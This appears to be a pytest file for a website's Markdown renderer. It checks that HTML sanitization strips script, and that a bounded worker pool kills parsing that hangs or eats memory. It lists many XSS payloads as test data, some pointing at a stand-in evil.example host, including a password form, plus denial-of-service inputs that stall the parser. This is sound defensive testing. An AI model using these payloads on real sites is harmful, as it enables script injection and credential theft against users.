"""Text that was written to do harm: to readers through scripts, to the site through time and memory."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

import html5lib
import psutil
import pytest

from app.kernel import bounded
from app.kernel.bounded import BoundedPool, Overrun
from app.kernel.text import MAX_SOURCE, limits, render, render_many, rendering
from app.kernel.text.markup import to_html
from app.kernel.text.rendering import tidy
from tests.support.safe_html import elements_of, harm_in

pytestmark = pytest.mark.pure

ROOT = Path(__file__).parents[2]
HOSTILE = ROOT.parent / "shared" / "data" / "hostile"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="/files/a.png" onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<x/onclick=alert(1)>y",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](\\\\evil.example)",
    "[x](http:javascript:alert(1))",
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://a.example \"' onclick='alert(1)\"\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript://a.example/%0aalert(1)>",
    "<data://text/html,x>",
    '<"onclick=alert(1)//@a.example>',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/files/a.png)',
    '![x](/files/a.png "x" onerror="alert(1)")',
    '![x](/files/a.png" onerror="alert(1))',
    "![x](/files/../../sign-out)",
    "![`<img src=x onerror=alert(1)>`](/files/a.png)",
    '[`<script>`](https://a.example/`"onclick=`)',
    'https://a.example/"onclick="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onclick=alert(1)",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick="alert(1)\nx\n```',
    "```{.js onclick=alert(1)}\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '| a" onclick="alert(1) | b |\n|---|---|\n| 1 | 2 |',
    "# <img src=x onerror=alert(1)>",
    "x {: onclick=alert(1) }",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x0234\x03",
    "```\nx\n```\n\n\x02wzxhzdk:0\x03 wzxhzdk:0",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "<<script>script>alert(1)<</script>/script>",
    "a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    '![a[^1]](/files/0123456789abcdef0123456789abcdef/x.png "[^1]")\n\n[^1]: x',
    "[a[^1]](https://a.example '[^1]')\n\n[^1]: x",
    "\ufdd00\ufdd1 [^1] &#xfdd0;0&#xfdd1;\n\n\ufdd2\n\n<p>\ufdd2</p>\n\n[^1]: x",
    '```bash\necho </span><script>alert(1)</script> "<b>"\n```',
    "```html\n<script>alert('</code></pre><script>')</script>\n```",
    "```console\n$ <script>alert(1)</script>\n<b>\n```",
    "```log </summary><script>alert(1)</script>\n" + "<script>alert(1)</script>\n" * 40 + "```",
    '@maria<script>alert(1)</script> @maria"onclick=alert(1)',
    'https://a.example/@maria"onclick=alert(1) (https://a.example/<b>)',
    "\\<script>alert(1)\\</script> \\&lt;b> &amp;lt;script&amp;gt;",
    '`` <script> `` <javascript:alert(1)@a.example> <a@b.example"onclick=alert(1)>',
]

SLOW = {
    "brackets": "[" * 30_000,
    "pictures": "![" * 15_000,
    "quotations": ">" * 15_000,
    "quotations with spaces": "> " * 15_000,
    "unparsed sections": "<![CDATA[" * 3_000,
    "half links": "[a](" * 7_500,
    "notes": "[^1]" * 201,
    "half links with quotes": '[a](b "' * 4_000,
    "lists in lists": "- " * 15_000,
    "links": "[a](https://a.example) " * 201,
    "addresses": "https://a.example " * 201,
    "short lines": "|\n" * 15_000,
    "too long": "a" * (MAX_SOURCE + 1),
}


@pytest.mark.parametrize("source", SCRIPTS)
def test_no_script_comes_through(source):
    assert harm_in(to_html(source)) == []
    assert harm_in(to_html(f"- > {source}")) == []


@pytest.mark.parametrize("shape", SLOW)
def test_known_slow_shapes_are_shown_as_written(shape):
    rendered = render(SLOW[shape])
    assert rendered.fell_back
    assert [element.tag for element in elements_of(rendered.html)] == ["pre"]
    assert harm_in(rendered.html) == []


@pytest.mark.parametrize(
    "source",
    [
        "```" + " " * 29_000,
        "```\n" + "[" * 29_000 + "\n```",
        "```log\n" + "http://a.example/[x\n" * 1_400 + "```",
        "word " * 6_000,
        "* " + "*a " * 9_000,
        "\n".join(f"{'  ' * depth}- a" for depth in range(150)),
        "- a\n  > b\n" * 1_400,
        "[^1]: a\n" * 190,
        "[^1]\n\n" + "[^1]: a\n\n    b\n" * 190,
        "@maria " * 4_200,
        "(https://a.example/" + ")" * 29_000,
        "```console\n" + "[" * 29_000 + "\n```",
        "```python\n" + "(" * 29_000 + "\n```",
        "```terraform\n" + "<<a\n" * 2_990 + "```",
        "- " * 20 + "```\n" + "x\n" * 10_000,
    ],
)
def test_long_but_harmless_texts_are_rendered(source):
    assert not render(source).fell_back


def test_the_fall_back_shows_every_word_and_no_tag():
    rendered = render("<script>" + "[" * 100)
    assert rendered.html == (
        '<pre tabindex="0" role="region" aria-label="Text as it was written">&lt;script&gt;' + "[" * 100 + "</pre>"
    )


def hang() -> None:
    """Run for ever inside a regular expression, where no Python code gets a turn."""
    re.match(r"(a|a)*b", "a" * 60)


def eat_memory() -> int:
    """Ask for four times the memory there is."""
    return len(bytearray(1024 * 1024 * 1024))


def die() -> None:
    """End at once, as after a crash."""
    os._exit(7)


def test_a_worker_that_hangs_is_killed_and_the_next_one_serves():
    pool = BoundedPool(seconds=3, megabytes=256)
    worker = pool.run(os.getpid)
    with pytest.raises(Overrun):
        pool.run(hang)
    assert pool.run(os.getpid) != worker
    assert not is_running(worker)
    pool.stop()


def test_a_worker_cannot_eat_the_memory_of_the_machine():
    pool = BoundedPool(seconds=5, megabytes=256)
    with pytest.raises(MemoryError):
        pool.run(eat_memory)
    assert pool.run(abs, -1) == 1
    pool.stop()


def test_a_worker_that_dies_is_replaced():
    pool = BoundedPool(seconds=5, megabytes=256)
    with pytest.raises(Overrun):
        pool.run(die)
    os.kill(pool.run(os.getpid), signal.SIGKILL)
    assert pool.run(abs, -1) == 1
    pool.stop()


def test_workers_that_do_not_start_in_time_are_not_left_behind(monkeypatch):
    monkeypatch.setattr(bounded, "START_SECONDS", 0.1)
    pool = BoundedPool(seconds=5, megabytes=256, workers=2, prepare=partial(time.sleep, 60))
    before = workers_running()
    with pytest.raises(Overrun):
        pool.run(abs, -1)
    assert workers_running() <= before


def workers_running() -> set[int]:
    """The workers of this process, by their numbers."""
    return {one.pid for one in psutil.Process().children() if "spawn_main" in " ".join(one.cmdline())}


def test_work_that_waits_behind_a_slow_piece_keeps_its_own_time():
    pool = BoundedPool(seconds=2, megabytes=256)
    with ThreadPoolExecutor() as threads:
        slow = threads.submit(pool.run, time.sleep, 60)
        time.sleep(0.1)
        quick = threads.submit(pool.run, abs, -1)
        assert isinstance(slow.exception(), Overrun)
        assert quick.result() == 1
    pool.stop()


def test_in_a_long_list_only_the_piece_to_blame_is_lost():
    pool = BoundedPool(seconds=2, megabytes=256, workers=2)
    results = list(pool.run_all(time.sleep, [0, 60, 0]))
    assert [isinstance(result, Overrun) for result in results] == [False, True, False]
    pool.stop()


def test_a_text_that_hangs_the_parser_is_shown_as_written_and_the_others_are_rendered(monkeypatch):
    monkeypatch.setattr(limits, "MAX_LINES", 100_000)
    monkeypatch.setattr(rendering, "_pool", BoundedPool(seconds=2, megabytes=256, workers=2))
    slow = "|\n" * 14_999
    rendered = render(slow)
    assert rendered.fell_back
    assert not render("Next").fell_back
    assert [one.fell_back for one in render_many(["a", slow, "b"])] == [False, True, False]


def test_a_server_that_forks_renders_on_both_sides():
    """The server loads the site once and forks its workers; a fork must not inherit a pool without its threads."""
    finished = run_script("""
        import os
        from app.kernel.text import render

        def main():
            assert not render("before").fell_back
            child = os.fork()
            assert not render("after").fell_back
            if child:
                raise SystemExit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))

        if __name__ == "__main__":
            main()
    """)
    assert finished.returncode == 0, finished.stderr


def test_nothing_is_left_running_when_the_program_ends():
    finished = run_script("""
        import multiprocessing
        from app.kernel.text import render, render_many

        if __name__ == "__main__":
            render("x")
            render_many(["x"] * 50)
            print(*(child.pid for child in multiprocessing.active_children()))
    """)
    assert finished.returncode == 0, finished.stderr
    assert finished.stderr == ""
    workers = [int(pid) for pid in finished.stdout.split()]
    assert len(workers) > 1
    until = time.monotonic() + 5
    while any(is_running(pid) for pid in workers) and time.monotonic() < until:
        time.sleep(0.05)
    assert not any(is_running(pid) for pid in workers)


def is_running(pid: int) -> bool:
    """True while there is a process of that number."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def run_script(text: str) -> subprocess.CompletedProcess[str]:
    """Run `text` as a program of its own."""
    script = Path(os.environ["PYTEST_SCRIPTS"]) / "script.py"
    script.write_text(textwrap.dedent(text))
    return subprocess.run(
        [sys.executable, str(script)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


@pytest.fixture(autouse=True)
def _scripts(tmp_path, monkeypatch):
    monkeypatch.setenv("PYTEST_SCRIPTS", str(tmp_path))


def visible_in(page: str) -> str:
    """What a reader sees, without spaces and without the names and buttons of code."""
    shown = re.sub(r"<figcaption>.*?</button>", "", page)
    return "".join("".join(html5lib.parseFragment(shown, namespaceHTMLElements=False).itertext()).split())


def letters(text: str) -> str:
    """What no mark of Markdown is made of."""
    return "".join(sign for sign in text if sign.isalnum())


@pytest.mark.skipif(not HOSTILE.exists(), reason="only on machines with the test data")
class TestPublicCollections:
    def test_naughty_strings(self):
        strings = json.loads((HOSTILE / "blns.json").read_text())
        for string, rendered in zip(strings, render_many(strings), strict=True):
            assert harm_in(rendered.html) == [], string
            assert not rendered.fell_back

    def test_naughty_strings_are_shown_as_they_were_typed(self):
        """Letter by letter, but for the few in which a mark of Markdown does what it is for."""
        strings = [tidy(string) for string in json.loads((HOSTILE / "blns.json").read_text())]
        changed = {text for text in strings if visible_in(to_html(text)) != "".join(text.split())}
        assert {text for text in changed if not any(mark in text for mark in ("\\", "`", "&", "*", "_"))} <= {
            "-",
            "><script>alert(123)</script>",
            "><script>alert(123);</script x=",
        }
        assert len(changed) < 30
        assert {letters(visible_in(to_html(text))) == letters(text) for text in strings if "&" not in text} == {True}

    def test_the_examples_of_the_specification(self):
        text = (HOSTILE / "commonmark-spec.txt").read_text()
        examples = re.findall(r"^`{32} example\n(.*?)^\.\n", text, re.MULTILINE | re.DOTALL)
        assert len(examples) > 600
        sources = [example.replace("→", "\t") for example in examples]
        for source, rendered in zip(sources, render_many(sources), strict=True):
            assert harm_in(rendered.html) == [], source
